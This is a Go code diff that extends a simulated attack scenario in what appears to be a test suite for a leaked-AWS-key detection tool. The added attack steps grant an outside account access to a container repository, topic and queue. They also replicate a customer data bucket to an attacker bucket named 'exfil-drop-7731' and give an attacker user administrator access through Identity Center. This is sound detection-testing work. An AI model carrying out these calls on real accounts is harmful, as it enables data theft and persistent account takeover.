@@ -9,6 +9,7 @@ import (
 	"github.com/aws/aws-sdk-go-v2/aws"
 	"github.com/aws/aws-sdk-go-v2/service/ec2"
 	ec2types "github.com/aws/aws-sdk-go-v2/service/ec2/types"
+	"github.com/aws/aws-sdk-go-v2/service/ecr"
 	"github.com/aws/aws-sdk-go-v2/service/eks"
 	ekstypes "github.com/aws/aws-sdk-go-v2/service/eks/types"
 	"github.com/aws/aws-sdk-go-v2/service/iam"
@@ -25,8 +26,12 @@ import (
 	sagemakertypes "github.com/aws/aws-sdk-go-v2/service/sagemaker/types"
 	"github.com/aws/aws-sdk-go-v2/service/secretsmanager"
 	"github.com/aws/aws-sdk-go-v2/service/ses"
+	"github.com/aws/aws-sdk-go-v2/service/sns"
+	"github.com/aws/aws-sdk-go-v2/service/sqs"
 	"github.com/aws/aws-sdk-go-v2/service/ssm"
 	ssmtypes "github.com/aws/aws-sdk-go-v2/service/ssm/types"
+	"github.com/aws/aws-sdk-go-v2/service/ssoadmin"
+	ssotypes "github.com/aws/aws-sdk-go-v2/service/ssoadmin/types"
 
 	"github.com/keyleak/keyleak/test/world"
 )
@@ -48,6 +53,16 @@ const (
 	techAnalyst     = "analyst"
 	techCluster     = "prod"
 	techGitUser     = "svc-git"
+	techRepo        = "billing-api"
+	techTopic       = "billing-alerts"
+	techQueue       = "billing-jobs"
+	techReplication = "s3-replication"
+	// TechDrop is the attacker's bucket, in its own account, that the
+	// customer data is replicated to.
+	TechDrop = "exfil-drop-7731"
+	// TechDirectoryUser is the attacker's person in the organisation's
+	// Identity Center directory.
+	TechDirectoryUser = "906755f6-1021-70f1-b0c4-3f0e1b8a6a2d"
 )
 
 var (
@@ -80,6 +95,7 @@ func Techniques() Scenario {
 type techniques struct {
 	analyst                                                                 world.Credentials
 	instance, image, oldImage, volume, snapshot, group, kmsKey, partnerRole string
+	topic, queue, replicationRole, ssoInstance, permissionSet               string
 }
 
 func (s *techniques) setup(ctx context.Context, r *Run) error {
@@ -170,6 +186,9 @@ func (s *techniques) setup(ctx context.Context, r *Run) error {
 		"arn:aws:iam::aws:policy/PowerUserAccess"); err != nil {
 		return err
 	}
+	if err := s.setupMore(ctx, r, b); err != nil {
+		return err
+	}
 	analystARN, err := b.user(ctx, techAnalyst, nil, []string{"arn:aws:iam::aws:policy/ReadOnlyAccess"})
 	if err != nil {
 		return err
@@ -189,6 +208,55 @@ func (s *techniques) setup(ctx context.Context, r *Run) error {
 	t.LegitKeys = []world.Credentials{s.analyst}
 	return nil
 }
+
+// setupMore makes the container repository (which the organisation's
+// second account may pull from), the topic, the queue, the data bucket's
+// versioning and replication role, Identity Center's administrator
+// permission set, and the attacker's own bucket.
+func (s *techniques) setupMore(ctx context.Context, r *Run, b *builder) error {
+	e := ecr.NewFromConfig(b.cfg("us-east-1"))
+	if _, err := e.CreateRepository(ctx, &ecr.CreateRepositoryInput{RepositoryName: aws.String(techRepo)}); err != nil {
+		return fmt.Errorf("create repository: %w", err)
+	}
+	if _, err := e.SetRepositoryPolicy(ctx, &ecr.SetRepositoryPolicyInput{RepositoryName: aws.String(techRepo),
+		PolicyText: aws.String(document(techOrgPull))}); err != nil {
+		return fmt.Errorf("repository policy: %w", err)
+	}
+	topic, err := sns.NewFromConfig(b.cfg("us-east-1")).CreateTopic(ctx, &sns.CreateTopicInput{Name: aws.String(techTopic)})
+	if err != nil {
+		return fmt.Errorf("create topic: %w", err)
+	}
+	s.topic = deref(topic.TopicArn)
+	queue, err := sqs.NewFromConfig(b.cfg("us-east-1")).CreateQueue(ctx, &sqs.CreateQueueInput{QueueName: aws.String(techQueue)})
+	if err != nil {
+		return fmt.Errorf("create queue: %w", err)
+	}
+	s.queue = deref(queue.QueueUrl)
+	if _, err := b.s3("us-east-1").PutBucketVersioning(ctx, &s3.PutBucketVersioningInput{Bucket: aws.String(techData),
+		VersioningConfiguration: &s3types.VersioningConfiguration{Status: s3types.BucketVersioningStatusEnabled}}); err != nil {
+		return fmt.Errorf("version the data bucket: %w", err)
+	}
+	if s.replicationRole, err = b.role(ctx, techReplication, document(stmt{Effect: "Allow", Principal: map[string]any{"Service": "s3.amazonaws.com"}, Action: "sts:AssumeRole"}), time.Hour, nil); err != nil {
+		return err
+	}
+	sa := ssoadmin.NewFromConfig(b.cfg("us-east-1"))
+	inst, err := sa.ListInstances(ctx, &ssoadmin.ListInstancesInput{})
+	if err != nil || len(inst.Instances) == 0 {
+		return fmt.Errorf("Identity Center instance: %v (%d)", err, len(inst.Instances))
+	}
+	s.ssoInstance = deref(inst.Instances[0].InstanceArn)
+	ps, err := sa.CreatePermissionSet(ctx, &ssoadmin.CreatePermissionSetInput{InstanceArn: aws.String(s.ssoInstance), Name: aws.String("AdministratorAccess")})
+	if err != nil {
+		return fmt.Errorf("create permission set: %w", err)
+	}
+	s.permissionSet = deref(ps.PermissionSet.PermissionSetArn)
+	return r.builder(TechOutsider).bucket(ctx, "us-east-1", TechDrop)
+}
+
+// techOrgPull is the repository policy's own statement: the
+// organisation's second account pulls images.
+var techOrgPull = stmt{Sid: "org-pull", Effect: "Allow", Principal: map[string]any{"AWS": "arn:aws:iam::" + world.SecondAccount + ":root"},
+	Action: []string{"ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"}}
 
 // legit: the analyst reads the reports now and then.
 func (s *techniques) legit(ctx context.Context, r *Run, from, to time.Time) error {
@@ -343,6 +411,49 @@ func (s *techniques) attack(ctx context.Context, r *Run) error {
 	call("the secret's policy", func(ctx context.Context) error {
 		_, err := secretsmanager.NewFromConfig(cfg()).PutResourcePolicy(ctx, &secretsmanager.PutResourcePolicyInput{SecretId: aws.String(techSecret),
 			ResourcePolicy: aws.String(document(stmt{Effect: "Allow", Principal: map[string]any{"AWS": outside}, Action: "secretsmanager:GetSecretValue", Resource: "*"}))})
+		return err
+	})
+	call("pull from the repository", func(ctx context.Context) error {
+		_, err := ecr.NewFromConfig(cfg()).SetRepositoryPolicy(ctx, &ecr.SetRepositoryPolicyInput{RepositoryName: aws.String(techRepo),
+			PolicyText: aws.String(document(techOrgPull, stmt{Sid: "pull", Effect: "Allow", Principal: map[string]any{"AWS": outside},
+				Action: []string{"ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"}}))})
+		return err
+	})
+	call("publish to the topic", func(ctx context.Context) error {
+		client := sns.NewFromConfig(cfg())
+		out, err := client.GetTopicAttributes(ctx, &sns.GetTopicAttributesInput{TopicArn: aws.String(s.topic)})
+		if err != nil {
+			return err
+		}
+		policy, err := withStatement(out.Attributes["Policy"], stmt{Sid: "notify", Effect: "Allow", Principal: map[string]any{"AWS": outside},
+			Action: []string{"sns:Publish", "sns:Subscribe"}, Resource: s.topic})
+		if err != nil {
+			return err
+		}
+		_, err = client.SetTopicAttributes(ctx, &sns.SetTopicAttributesInput{TopicArn: aws.String(s.topic),
+			AttributeName: aws.String("Policy"), AttributeValue: aws.String(policy)})
+		return err
+	})
+	call("send to the queue", func(ctx context.Context) error {
+		_, err := sqs.NewFromConfig(cfg()).SetQueueAttributes(ctx, &sqs.SetQueueAttributesInput{QueueUrl: aws.String(s.queue),
+			Attributes: map[string]string{"Policy": document(stmt{Sid: "jobs", Effect: "Allow", Principal: map[string]any{"AWS": outside},
+				Action: []string{"sqs:SendMessage", "sqs:ReceiveMessage"}, Resource: "arn:aws:sqs:us-east-1:" + world.DefaultAccount + ":" + techQueue})}})
+		return err
+	})
+	call("replicate the data to its bucket", func(ctx context.Context) error {
+		_, err := a.s3("us-east-1", leaked).PutBucketReplication(ctx, &s3.PutBucketReplicationInput{Bucket: aws.String(techData),
+			ReplicationConfiguration: &s3types.ReplicationConfiguration{Role: aws.String(s.replicationRole), Rules: []s3types.ReplicationRule{{
+				ID: aws.String("backup"), Status: s3types.ReplicationRuleStatusEnabled, Priority: aws.Int32(1),
+				Filter:                  &s3types.ReplicationRuleFilter{Prefix: aws.String("")},
+				DeleteMarkerReplication: &s3types.DeleteMarkerReplication{Status: s3types.DeleteMarkerReplicationStatusDisabled},
+				Destination:             &s3types.Destination{Bucket: aws.String("arn:aws:s3:::" + TechDrop), Account: aws.String(TechOutsider)}}}}})
+		return err
+	})
+	call("an Identity Center assignment", func(ctx context.Context) error {
+		_, err := ssoadmin.NewFromConfig(cfg()).CreateAccountAssignment(ctx, &ssoadmin.CreateAccountAssignmentInput{
+			InstanceArn: aws.String(s.ssoInstance), PermissionSetArn: aws.String(s.permissionSet),
+			PrincipalType: ssotypes.PrincipalTypeUser, PrincipalId: aws.String(TechDirectoryUser),
+			TargetType: ssotypes.TargetTypeAwsAccount, TargetId: aws.String(r.Target.Account)})
 		return err
 	})
 	call("a Roles Anywhere trust anchor", func(ctx context.Context) error {
